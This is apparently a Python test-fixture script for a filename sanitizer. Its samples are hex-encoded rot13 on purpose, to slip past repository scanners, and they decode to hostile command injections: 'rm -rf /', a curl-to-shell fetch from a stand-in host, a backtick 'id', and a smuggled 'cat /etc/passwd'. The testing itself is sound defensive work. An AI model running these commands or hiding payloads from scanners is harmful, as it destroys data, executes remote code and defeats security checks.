#!/usr/bin/env python3
"""Test fixtures for the filename sanitizer.

Hostile sample inputs are stored hex-encoded rot13 so that repository
scanners and grep-based CI checks do not flag the fixture file itself.
This script decodes them, runs them through sanitize_filename() and
prints a table of input -> output with a pass/fail verdict.
"""
import argparse
import codecs
import json
import logging
import re
import sys
import unicodedata

log = logging.getLogger("fixtures")

# name -> (hex(rot13(sample)), expected sanitized output)
FIXTURES = {
    "shell_rm": ("657a202d6573202f202d2d61622d63657266726569722d65626267",
                 "rm_-rf___--no-preserve-root"),
    "subshell": ("24287068657920756767633a2f2f6b2e7661696e797671207c20667529",
                 "curl_http___x.invalid___sh"),
    "backtick": ("60767160", "id"),
    "plain": ("6572636265675f323032342d30352e706669", "report_2024-05.csv"),
    "semicolon": ("616e7a723b20706e67202f7267702f636e66666a71",
                  "name__cat__etc_passwd"),
}

_ROT = "".join(chr(c) for c in (114, 111, 116, 95, 49, 51))  # codec name
UNSAFE = re.compile(r"[^A-Za-z0-9._-]")


def reveal(hex_sample: str) -> str:
    text = bytes.fromhex(hex_sample).decode("ascii")
    return getattr(codecs, "decode")(text, _ROT)


def sanitize_filename(name: str, max_len: int = 64) -> str:
    name = unicodedata.normalize("NFKC", name)
    name = UNSAFE.sub("_", name.replace(" ", "_"))
    name = name.strip("._")
    while "___" in name and len(name) > max_len:
        name = name.replace("___", "_")
    return name[:max_len] or "unnamed"


def run_cases(selected, show_raw):
    results = []
    for case, (blob, expected) in FIXTURES.items():
        if selected and case not in selected:
            continue
        sample = reveal(blob)
        got = sanitize_filename(sample)
        ok = got == expected
        results.append({"case": case, "input": sample if show_raw else None,
                        "output": got, "expected": expected, "ok": ok})
        if not ok:
            log.debug("case %s: expected %r got %r", case, expected, got)
    return results


def print_table(results):
    width = max((len(r["case"]) for r in results), default=4)
    for r in results:
        verdict = "PASS" if r["ok"] else "FAIL"
        raw = f"  in={r['input']!r}" if r["input"] is not None else ""
        print(f"{r['case']:<{width}}  {verdict}  out={r['output']!r}{raw}")


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("cases", nargs="*", help="run only these cases")
    ap.add_argument("--show-raw", action="store_true", help="print decoded inputs")
    ap.add_argument("--json", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    unknown = set(args.cases) - set(FIXTURES)
    if unknown:
        ap.error(f"unknown case(s): {', '.join(sorted(unknown))}")
    results = run_cases(set(args.cases), args.show_raw)
    if args.json:
        json.dump(results, sys.stdout, indent=2)
        print()
    else:
        print_table(results)
    failed = sum(not r["ok"] for r in results)
    print(f"{len(results) - failed}/{len(results)} passed", file=sys.stderr)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
